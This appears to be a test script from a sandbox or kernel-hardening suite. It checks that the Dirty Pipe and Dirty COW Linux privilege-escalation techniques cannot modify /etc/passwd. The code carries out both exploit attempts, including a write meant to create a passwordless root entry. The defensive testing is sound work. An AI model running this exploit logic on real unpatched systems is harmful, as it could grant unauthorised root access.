# must: what famous holes of Linux did does not change a read-only file (CVE-2022-0847, CVE-2016-5195)
# status: succeeded
# stdout: splice (SUCCEEDED|EINVAL|EPERM)\nwrites (EFAULT|EIO|EACCES|EPERM|done)\nunchanged
import ctypes
import threading

before = open("/etc/passwd").read()
# Splice a page of the file into a pipe that was full before, and write on.
r, w = os.pipe()
os.write(w, b"x" * 4096)
os.read(r, 4096)
fd = os.open("/etc/passwd", os.O_RDONLY)
attempt("splice", syscall, "splice", fd, ctypes.byref(ctypes.c_int64(0)), w, 0, 1, 0)
os.write(w, b"oot::0:0:hostile")

# Write to a private mapping of the file while it is thrown away.
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
address = libc.mmap(None, ctypes.c_long(4096), 1, 2, fd, ctypes.c_long(0))
stop = threading.Event()


def throw_away():
    while not stop.is_set():
        libc.madvise(ctypes.c_void_p(address), ctypes.c_long(4096), 4)


thread = threading.Thread(target=throw_away)
thread.start()
memory = os.open("/proc/self/mem", os.O_RDWR)
outcome = "done"
try:
    for _ in range(2000):
        os.pwrite(memory, b"hostile", address)
except OSError as e:
    outcome = errno.errorcode[e.errno]
stop.set()
thread.join()
print("writes", outcome)
print("unchanged" if open("/etc/passwd").read() == before else "CHANGED")
